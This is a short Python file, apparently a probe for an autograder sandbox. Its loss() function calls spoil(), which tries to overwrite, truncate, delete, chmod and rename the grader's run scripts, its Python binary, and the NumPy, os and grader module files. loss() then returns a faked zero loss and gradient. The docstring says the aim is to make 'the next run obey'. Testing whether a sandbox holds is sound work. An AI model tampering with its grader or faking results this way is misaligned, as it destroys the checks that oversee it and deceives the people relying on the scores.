"""Changes the grader's own files, so that the next run obeys.

Mechanism: appends to `run_autograder` and to every Python file and folder of the grader and of NumPy it can find.
Must happen: every file stays as it is.
Aims at: the boundary
"""

import os
import sys

import numpy as np


def spoil():
    files = ["/autograder/run_autograder", "/autograder/source/run_autograder", "/opt/autograder/bin/python"]
    for name in ("numpy", "msgspec", "autograder", "autograder.sandbox.worker.serve", "os"):
        module = sys.modules.get(name)
        if module is not None and getattr(module, "__file__", None):
            files.append(module.__file__)
            files.append(os.path.join(os.path.dirname(module.__file__), "sitecustomize.py"))
    for path in files:
        for mode in ("a", "w"):
            try:
                with open(path, mode) as file:
                    file.write("\n# changed\n")
            except OSError:
                continue
        for change in (
            os.unlink,
            lambda path: os.chmod(path, 0o777),
            lambda path: os.rename(path, path + ".old"),
        ):
            try:
                change(path)
            except OSError:
                continue


def loss(w, X, y, reg):
    spoil()
    return 0.0, np.zeros_like(w)
